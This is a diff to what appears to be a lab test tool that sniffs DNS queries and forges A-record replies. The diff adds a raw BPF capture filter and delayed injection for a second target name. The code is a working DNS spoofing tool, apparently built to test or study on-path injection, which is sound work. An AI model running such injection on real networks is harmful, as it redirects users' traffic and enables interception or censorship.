@@ -8,7 +8,31 @@ Run inside the ISP namespace: `python -m tests.lab.injector --iface r0 --name dn
 from __future__ import annotations
 
 import argparse
+import ctypes
+import socket
 import sys
+import threading
+
+SO_ATTACH_FILTER = 26
+# (code, jt, jf, k) for Ethernet frames: IPv4, UDP, not a fragment, destination port 53.
+UDP_DST_PORT_53 = [
+    (0x28, 0, 0, 12), (0x15, 0, 8, 0x0800), (0x30, 0, 0, 23), (0x15, 0, 6, 17), (0x28, 0, 0, 20),
+    (0x45, 4, 0, 0x1FFF), (0xB1, 0, 0, 14), (0x48, 0, 0, 16), (0x15, 0, 1, 53), (0x06, 0, 0, 0x40000),
+    (0x06, 0, 0, 0),
+]  # fmt: skip
+
+
+class _Instruction(ctypes.Structure):
+    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint32)]
+
+
+class _Program(ctypes.Structure):
+    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(_Instruction))]
+
+
+def _attach(sock: socket.socket, program: list[tuple[int, int, int, int]]) -> None:
+    instructions = (_Instruction * len(program))(*(_Instruction(*row) for row in program))
+    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, bytes(_Program(len(program), instructions)))
 
 
 def main() -> int:
@@ -17,12 +41,17 @@ def main() -> int:
     parser.add_argument("--name", required=True, help="inject answers for this name (and names under it)")
     parser.add_argument("--answer", required=True, help="the forged A record")
     parser.add_argument("--ttl", type=int, default=200, help="IP TTL of forged replies (a tell-tale)")
+    parser.add_argument("--late-name", help="inject answers for this name too, but only after --late-delay")
+    parser.add_argument("--late-delay", type=float, default=0.5, help="seconds: after the target's handshake")
     parser.add_argument("--lifetime", type=float, default=3600)
     args = parser.parse_args()
 
-    from scapy.all import DNS, DNSRR, IP, UDP, send, sniff  # imported late: scapy is slow to load
+    from scapy.all import DNS, DNSRR, IP, UDP, conf, send, sniff  # imported late: scapy is slow to load
 
-    suffix = args.name.rstrip(".").encode() + b"."
+    suffixes = [args.name.rstrip(".").encode() + b"."]
+    late = args.late_name.rstrip(".").encode() + b"." if args.late_name else None
+    if late is not None:
+        suffixes.append(late)
 
     def is_target_query(packet) -> bool:  # type: ignore[no-untyped-def]
         if not (packet.haslayer(IP) and packet.haslayer(UDP) and packet.haslayer(DNS)):
@@ -31,7 +60,7 @@ def main() -> int:
         if packet[UDP].dport != 53 or dns.qr != 0 or dns.qd is None:
             return False
         question = dns.qd[0] if hasattr(dns.qd, "__getitem__") else dns.qd
-        return question.qtype == 1 and bytes(question.qname).lower().endswith(suffix)
+        return question.qtype == 1 and bytes(question.qname).lower().endswith(tuple(suffixes))
 
     def inject(packet) -> None:  # type: ignore[no-untyped-def]
         dns = packet[DNS]
@@ -48,13 +77,20 @@ def main() -> int:
                 an=DNSRR(rrname=question.qname, type="A", ttl=300, rdata=args.answer),
             )
         )
-        send(forged, verbose=False)
+        if late is not None and bytes(question.qname).lower().endswith(late):
+            threading.Timer(args.late_delay, send, [forged], {"verbose": False}).start()
+        else:
+            send(forged, verbose=False)
 
     def started() -> None:
         print("injector ready", flush=True)
 
+    # The kernel hands the injector DNS queries only (a classic BPF program, as `tcpdump -dd
+    # 'ip and udp dst port 53'` writes it: no libpcap needed), so that it keeps up with a busy link.
+    listener = conf.L2listen(iface=args.iface)
+    _attach(listener.ins, UDP_DST_PORT_53)
     sniff(
-        iface=args.iface,
+        opened_socket=listener,
         lfilter=is_target_query,
         prn=inject,
         store=False,
